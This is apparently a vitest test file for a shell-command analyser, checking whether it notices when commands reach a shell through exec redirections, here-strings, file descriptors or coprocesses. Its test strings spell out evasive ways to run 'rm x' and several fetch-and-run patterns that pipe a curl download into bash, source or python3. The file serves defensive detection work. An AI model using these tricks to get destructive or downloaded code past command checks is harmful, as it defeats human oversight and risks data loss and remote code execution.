import { describe, expect, it } from "vitest";
import { UNKNOWN } from "../../../src/model/invocation.ts";
import { walkCommand } from "../../../src/action/shell/walk.ts";
import { tellCommands } from "./tell.ts";

const REACHED: readonly string[] = [
  "exec <<< 'rm x'; bash",
  "exec <<E; bash\nrm x\nE",
  "builtin exec <<< 'rm x'; bash",
  "exec < <(echo rm x); source /dev/stdin",
  "echo rm x > f; exec < f; bash",
  "{ exec <<< 'rm x'; }; bash",
  "f() { exec <<< 'rm x'; }; f; bash",
  "[ -t 0 ] || exec <<< 'rm x'; bash",
  "exec < /dev/null; eval \"exec <<< 'rm x'\"; bash",
  "exec <<< 'rm x'; read -r line; eval \"$line\"",
  "echo rm x | { false && exec < /dev/null; bash; }",
  "exec 3<<< 'rm x'; exec <&3; bash",
  "exec 3< <(echo rm x); bash /dev/fd/3",
  "exec 3< <(echo rm x); bash /proc/self/fd/3",
  "exec 3< <(echo rm x); bash <&3",
  "exec 3< <(echo rm x); bash <&3-",
  "exec {fd}< <(echo rm x); bash /dev/fd/$fd",
  "exec {a}< <(echo rm x) {b}< <(echo ls); bash <&$a",
  "coproc C { echo rm x; }; source /dev/fd/${C[0]}",
  'coproc echo rm x; bash <&"${COPROC[0]}"',
];

const NOT_REACHED: readonly string[] = [
  "exec <<< 'rm x'; echo ls | bash",
  "exec <<< 'rm x'; bash <<< ls",
  "exec <<< 'rm x'; bash < other",
  "(exec <<< 'rm x'); bash",
  "{ exec <<< 'rm x'; exec <&-; }; bash",
  "exec <<< 'rm x'; cat",
  "exec cat <<< 'rm x'; bash",
  "exec 3< <(echo rm x); cat <&3",
  "exec 3< <(echo rm x) 4< <(echo ls); bash <&4",
  "exec {a}< <(echo rm x) {b}< <(echo ls); bash <&$b",
  "coproc C { echo rm x; }; cat <&${C[0]}",
];

const FROM_NETWORK: readonly string[] = [
  "exec < <(curl -s https://example.com/x); bash",
  "curl -s https://example.com/x > f; exec < f; bash",
  "exec 3< <(curl -s https://example.com/x); bash /dev/fd/3",
  "exec 3< <(curl -s https://example.com/x); python3 <&3",
  "coproc C { curl -s https://example.com/x; }; source /dev/fd/${C[0]}",
];

describe("standard input that exec replaces, and descriptors", () => {
  it.each(REACHED)("runs what the shell reads there: %s", (source) => {
    expect(tellCommands(source)).toContain("rm x");
  });

  it.each(NOT_REACHED)("leaves alone what no shell reads: %s", (source) => {
    expect(tellCommands(source)).not.toContain("rm x");
  });

  it.each(FROM_NETWORK)("knows that it runs a download: %s", (source) => {
    const unknown = walkCommand(source).invocations.filter(({ program }) => program === UNKNOWN);
    expect(unknown.flatMap(({ words }) => words[0]?.origins ?? [])).toContain("download");
  });

  it("sees no unknown program where a download is only read", () => {
    const source = "exec 3< <(curl -s https://example.com/x); cat <&3; exec < list; read -r line";
    expect(walkCommand(source).invocations.map(({ program }) => program)).not.toContain(UNKNOWN);
  });
});
